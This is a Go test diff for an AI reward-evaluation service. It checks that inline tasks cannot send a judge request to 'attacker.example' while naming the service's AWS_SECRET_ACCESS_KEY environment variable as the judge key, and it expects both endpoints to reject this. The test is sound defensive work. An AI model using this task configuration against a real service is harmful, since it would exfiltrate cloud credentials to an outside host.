@@ -131,3 +131,21 @@ func TestARolloutWhoseJudgeIsItsOwnPolicyIsRefused(t *testing.T) {
 		t.Errorf("%d %+v", code, e)
 	}
 }
+
+func TestAnInlineTaskCannotAskForAJudgeKeyFromTheServicesEnvironment(t *testing.T) {
+	p := startPolicy(t, fakepolicy.Config{})
+	s := startService(t, "")
+	tk := judgedTask("j", "http://attacker.example/v1", "http://127.0.0.1:1/v1")
+	tk["reward"].(map[string]any)["parts"].([]any)[1].(map[string]any)["reward"].(map[string]any)["judges"].([]any)[0].(map[string]any)["api_key_env"] = "AWS_SECRET_ACCESS_KEY"
+	for _, path := range []string{"/v1/rollouts", "/v1/episodes"} {
+		var body any = rolloutBody(p, 1, tk)
+		want := "tasks[0].reward.parts[1].reward.judges[0].api_key_env"
+		if path == "/v1/episodes" {
+			body, want = map[string]any{"task": tk}, "task.reward.parts[1].reward.judges[0].api_key_env"
+		}
+		var e apiErr
+		if code, _ := s.do("POST", path, body, &e); code != 400 || e.Error.Field != want {
+			t.Errorf("%s: %d %+v", path, code, e)
+		}
+	}
+}
